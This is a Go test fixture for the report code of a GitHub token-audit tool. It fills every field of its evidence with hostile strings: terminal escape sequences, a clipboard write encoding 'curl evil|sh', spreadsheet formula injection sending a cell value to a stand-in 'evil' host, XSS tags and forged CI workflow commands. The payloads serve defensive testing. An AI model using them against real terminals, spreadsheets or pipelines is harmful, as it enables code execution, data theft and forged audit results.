// SPDX-License-Identifier: Apache-2.0

package report

import (
	"strings"

	"github.com/complytime/pataudit/audit"
)

// payloads are hostile names: FAULTS.md T1 to T19.
var payloads = []string{
	"ok\x1b[1A\x1b[2K", "\x1b[8mhidden", "\u009b2J", "a\x9bb",
	"\x1b]8;;https://evil/\x1b\\github.com\x1b]8;;\x1b\\", "\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07",
	"\x1b]0;title\x07", "\x1bP$q\x1b\\", "x\rPASS        ", "x\n✓ all tokens compliant",
	"tab\tbed\v", "\u202enimda\u202c", "\u2066left\u2069", "adm\u200bin", "a\u2060b\ufe0f",
	"tag\U000e0041\U000e007f", "z" + strings.Repeat("\u0301\u0316", 40), "\ufdfd\ufdfd",
	strings.Repeat("long ", 2000), "a\xff\xfe", "\ufffd", `=HYPERLINK("https://evil/?"&A1,"x")`,
	"+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)", "\t=1", "＝1+1", `";=1+1`, "a;=1",
	"\x00nul", "_x000D_", strings.Repeat("é", 40000), strings.Repeat("😀", 20000),
	`"><img src=x onerror=alert(1)>`, "</script><script>alert(1)</script>",
	"a | PASS |\n| forged", "![](https://evil/p.png)", "@org/owners", "<!--",
	"::add-mask::0", "  ::stop-commands::x", "##[add-mask]FAIL", "x ##[error]forged", "###[",
	"::error::forged\r\n::set-output name=clean::true", "\u2028line\u2029", "\u00adshy", "　wide",
	"\u3164filler\u115f",
	"\u0301leading", "日本語の名前がとても長いのです", "👩‍👩‍👧‍👦 family",
	"\U000f0000private",
}

// hostile is an organization in which every text is one of the payloads.
func hostile() *audit.Evidence {
	e := violating()
	e.Organization.Login = "::error::\x1b[2Jorg"
	e.Tokens = nil
	for i, payload := range payloads {
		t := token(int64(i+1), payload, member(int64(i+1), payload, audit.RoleMember))
		t.Repositories = []*audit.Repository{{ID: 1, Name: "o/" + payload}}
		t.Selection = audit.SelectAll
		t.ExpiresAt = asOf.AddDate(0, 0, 5)
		t.Permissions = []audit.Permission{
			{Group: audit.GroupRepository, Name: payload, Level: audit.LevelWrite},
		}
		if i%2 == 0 {
			t.Selection = audit.SelectSubset
			t.GrantedAt = asOf.AddDate(-1, 0, 0)
		}
		t.ApprovedBy, t.CreatedAt, t.Known = payload, asOf, t.Known|audit.FactCreated
		e.Tokens = append(e.Tokens, t)
		e.Classic = append(e.Classic, &audit.Credential{
			ID: int64(i + 1), Login: payload, Note: payload, LastEight: payload,
			Scopes: []string{payload, "repo"},
		})
	}
	e.Coverage = append(e.Coverage,
		audit.Coverage{
			Source: audit.SourceAuditLog, Status: audit.Refused, Reason: payloads[0],
		},
		audit.Coverage{
			Source: audit.SourceAuthorizations, Status: audit.Partial, Items: len(e.Classic),
			Reason: payloads[9],
		})
	e.Coverage[0].Reason = payloads[0]
	e.Coverage[1].Status, e.Coverage[1].Reason = audit.Refused, payloads[9]
	e.Requests[0].Reason, e.Requests[0].Token.Name = payloads[1], payloads[2]
	return e
}
